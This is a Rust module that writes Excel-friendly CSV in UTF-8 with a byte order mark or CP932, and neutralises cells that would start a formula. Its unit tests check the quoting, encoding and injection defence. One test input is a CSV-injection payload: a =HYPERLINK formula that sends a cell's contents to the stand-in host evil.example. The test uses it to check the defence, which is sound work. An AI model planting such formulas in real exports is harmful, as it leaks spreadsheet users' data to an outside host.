//! A small CSV writer for spreadsheets people open in Excel: RFC 4180 quoting, CRLF line ends,
//! UTF-8 with a byte order mark (so Excel reads Japanese), or CP932 (Windows-31J, what Windows
//! calls Shift_JIS) on request. Every cell that a spreadsheet would read as a formula is made
//! text here, so every export is safe. Pure: no database, no HTTP.

use crate::refusal::Refusal;

/// The byte order mark Excel needs to read a CSV file as UTF-8.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// How the file is encoded.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Encoding {
    /// UTF-8 with a byte order mark (the default).
    Utf8Bom,
    /// CP932 (Windows-31J), for older spreadsheets. A character CP932 cannot hold becomes `?`
    /// (a numeric character reference would be wrong in a CSV cell).
    Cp932,
}

impl Encoding {
    /// `?encoding=`: empty or `utf-8` → UTF-8 with BOM; `cp932`, `windows-31j` (or the older
    /// `shift_jis`, `sjis`) → CP932.
    pub fn parse(raw: Option<&str>) -> Result<Encoding, Refusal> {
        match raw
            .map(|s| s.trim().to_ascii_lowercase().replace('-', "_"))
            .as_deref()
        {
            None | Some("") | Some("utf_8") | Some("utf8") => Ok(Encoding::Utf8Bom),
            Some("cp932") | Some("windows_31j") | Some("shift_jis") | Some("sjis") => {
                Ok(Encoding::Cp932)
            }
            Some(_) => Err(Refusal::new("msg.csv_encoding")),
        }
    }

    /// The `charset` of the response's content type (the IANA name of CP932).
    pub fn charset(self) -> &'static str {
        match self {
            Encoding::Utf8Bom => "utf-8",
            Encoding::Cp932 => "windows-31j",
        }
    }
}

/// Whether a spreadsheet would read a cell starting with `c` as a formula (OWASP's list).
fn starts_formula(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// One field: a leading `'` when it would start a formula (Excel and LibreOffice then show it
/// as text); quoted when it holds a comma, a quote, a line break or leading/trailing spaces;
/// quotes inside are doubled (RFC 4180). Line breaks inside a field are kept as CRLF.
pub fn field(value: &str) -> String {
    let value = match value.chars().next() {
        Some(c) if starts_formula(c) => format!("'{value}"),
        _ => value.to_owned(),
    };
    let needs_quotes =
        value.contains([',', '"', '\n', '\r']) || value.starts_with(' ') || value.ends_with(' ');
    if !needs_quotes {
        return value;
    }
    let normalised = value.replace("\r\n", "\n").replace('\r', "\n");
    format!(
        "\"{}\"",
        normalised.replace('"', "\"\"").replace('\n', "\r\n")
    )
}

/// The rows as CSV text: fields separated by commas, every record ending in CRLF.
pub fn text<R, F>(rows: R) -> String
where
    R: IntoIterator<Item = F>,
    F: IntoIterator,
    F::Item: AsRef<str>,
{
    let mut out = String::new();
    for row in rows {
        let mut first = true;
        for value in row {
            if !first {
                out.push(',');
            }
            first = false;
            out.push_str(&field(value.as_ref()));
        }
        out.push_str("\r\n");
    }
    out
}

/// The character CP932 holds for one typed in its JIS form (Mac and IME input), as Windows
/// and Python's `cp932` read them; and the full-width forms of `¥` and `‾`, which the WHATWG
/// encoder would write as a backslash and a tilde.
fn cp932_form(c: char) -> char {
    match c {
        '\u{301C}' => '\u{FF5E}', // 〜 wave dash → ～
        '\u{2016}' => '\u{2225}', // ‖ → ∥
        '\u{2212}' => '\u{FF0D}', // − minus → －
        '\u{00A2}' => '\u{FFE0}', // ¢ → ￠
        '\u{00A3}' => '\u{FFE1}', // £ → ￡
        '\u{00AC}' => '\u{FFE2}', // ¬ → ￢
        '\u{2014}' => '\u{2015}', // — em dash → ―
        '\u{00A6}' => '\u{FFE4}', // ¦ → ￤
        '\u{00A5}' => '\u{FFE5}', // ¥ → ￥
        '\u{203E}' => '\u{FFE3}', // ‾ → ￣
        other => other,
    }
}

/// CP932's user-defined area (外字, F040–F9FC) holds U+E000–U+E757, which the WHATWG
/// Shift_JIS encoder leaves out.
fn user_defined(c: char) -> Option<[u8; 2]> {
    let offset = u32::from(c).checked_sub(0xE000).filter(|&o| o < 1880)?;
    let pointer = 8836 + offset;
    let (lead, trail) = (pointer / 188, pointer % 188);
    let lead = lead + if lead < 0x1F { 0x81 } else { 0xC1 };
    let trail = trail + if trail < 0x3F { 0x40 } else { 0x41 };
    Some([lead as u8, trail as u8])
}

/// The CSV text as the bytes of the file in `encoding`.
pub fn encode(text: &str, encoding: Encoding) -> Vec<u8> {
    match encoding {
        Encoding::Utf8Bom => {
            let mut bytes = Vec::with_capacity(BOM.len() + text.len());
            bytes.extend_from_slice(BOM);
            bytes.extend_from_slice(text.as_bytes());
            bytes
        }
        Encoding::Cp932 => {
            // encoding_rs writes unmappable characters as numeric character references; encode
            // piecewise instead so that each of them becomes a single `?`.
            let mut bytes = Vec::with_capacity(text.len());
            let mut buffer = [0u8; 4];
            for c in text.chars().map(cp932_form) {
                if let Some(pair) = user_defined(c) {
                    bytes.extend_from_slice(&pair);
                    continue;
                }
                let (encoded, _, unmappable) =
                    encoding_rs::SHIFT_JIS.encode(c.encode_utf8(&mut buffer));
                if unmappable {
                    bytes.push(b'?');
                } else {
                    bytes.extend_from_slice(&encoded);
                }
            }
            bytes
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_fields_stay_as_they_are() {
        assert_eq!(field("本庄市"), "本庄市");
        assert_eq!(field(""), "");
        assert_eq!(field("150000"), "150000");
    }

    #[test]
    fn commas_quotes_and_newlines_are_quoted() {
        assert_eq!(field("a,b"), "\"a,b\"");
        assert_eq!(field("「駅前」の\"食堂\""), "\"「駅前」の\"\"食堂\"\"\"");
        assert_eq!(field("一行目\n二行目"), "\"一行目\r\n二行目\"");
        assert_eq!(field("一行目\r\n二行目"), "\"一行目\r\n二行目\"");
        assert_eq!(field(" 前に空白"), "\" 前に空白\"");
    }

    #[test]
    fn records_end_in_crlf() {
        let csv = text([vec!["No.", "提案名"], vec!["1", "a,\"b\"\nc"]]);
        assert_eq!(csv, "No.,提案名\r\n1,\"a,\"\"b\"\"\r\nc\"\r\n");
        assert_eq!(text(Vec::<Vec<&str>>::new()), "");
    }

    #[test]
    fn utf8_starts_with_a_bom() {
        let bytes = encode("本庄市\r\n", Encoding::Utf8Bom);
        assert_eq!(&bytes[..3], [0xEF, 0xBB, 0xBF]);
        assert_eq!(&bytes[3..], "本庄市\r\n".as_bytes());
    }

    #[test]
    fn cells_that_would_start_a_formula_are_made_text() {
        for (value, written) in [
            ("=1+1 駅前の花壇", "'=1+1 駅前の花壇"),
            ("+81 495", "'+81 495"),
            ("-1", "'-1"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "\"'\r\n=1+1\""),
            (
                "=HYPERLINK(\"http://evil.example/?q=\"&B2,\"詳細\")",
                "\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&B2,\"\"詳細\"\")\"",
            ),
        ] {
            assert_eq!(field(value), written, "{value:?}");
        }
        // Only the first character counts, and an apostrophe is not doubled.
        for safe in ["5-1 6-1", "a=b", "'=1", "本庄市", ""] {
            assert_eq!(field(safe), safe);
        }
        assert_eq!(field(" =1"), "\" =1\"", "a leading space is text already");
        assert_eq!(text([["=1", "@a"]]), "'=1,'@a\r\n");
    }

    #[test]
    fn cp932_bytes_of_a_known_string() {
        // 本 = 96 7B, 庄 = 8F AF (8F AB would be 将), 市 = 8E 73.
        assert_eq!(
            encode("本庄市", Encoding::Cp932),
            [0x96, 0x7B, 0x8F, 0xAF, 0x8E, 0x73]
        );
        assert_eq!(encode("a,1\r\n", Encoding::Cp932), b"a,1\r\n");
        // No BOM in CP932.
        assert_eq!(encode("", Encoding::Cp932), b"");
    }

    #[test]
    fn jis_forms_are_written_as_windows_reads_them() {
        // 〜‖¬ as a Mac or an IME types them, ∥￢ as Windows does: the same CP932 codes.
        assert_eq!(
            encode("〜‖¬∥￢", Encoding::Cp932),
            [0x81, 0x60, 0x81, 0x61, 0x81, 0xCA, 0x81, 0x61, 0x81, 0xCA]
        );
        let bytes = encode("−¢£—¦¥‾", Encoding::Cp932);
        let (decoded, _, errors) = encoding_rs::SHIFT_JIS.decode(&bytes);
        assert!(!errors);
        assert_eq!(decoded, "－￠￡―￤￥￣");
        // 外字: the user-defined area from F040 to F9FC.
        assert_eq!(
            encode("\u{E000}\u{E757}", Encoding::Cp932),
            [0xF0, 0x40, 0xF9, 0xFC]
        );
    }

    #[test]
    fn characters_outside_cp932_become_a_question_mark() {
        // 𠮷 (U+20BB7) and an emoji have no CP932 code.
        let bytes = encode("𠮷野家😀市", Encoding::Cp932);
        let (decoded, _, errors) = encoding_rs::SHIFT_JIS.decode(&bytes);
        assert!(!errors);
        assert_eq!(decoded, "?野家?市");
    }

    #[test]
    fn encodings_by_name() {
        assert_eq!(Encoding::parse(None), Ok(Encoding::Utf8Bom));
        assert_eq!(Encoding::parse(Some("")), Ok(Encoding::Utf8Bom));
        assert_eq!(Encoding::parse(Some("UTF-8")), Ok(Encoding::Utf8Bom));
        for name in [
            "cp932",
            "CP932",
            "windows-31j",
            "Windows-31J",
            "shift_jis",
            "Shift-JIS",
        ] {
            assert_eq!(Encoding::parse(Some(name)), Ok(Encoding::Cp932), "{name}");
        }
        assert_eq!(
            Encoding::parse(Some("latin1")),
            Err(Refusal::new("msg.csv_encoding"))
        );
        crate::web::i18n::assert_english([Refusal::new("msg.csv_encoding")]);
        assert_eq!(Encoding::Cp932.charset(), "windows-31j");
    }
}
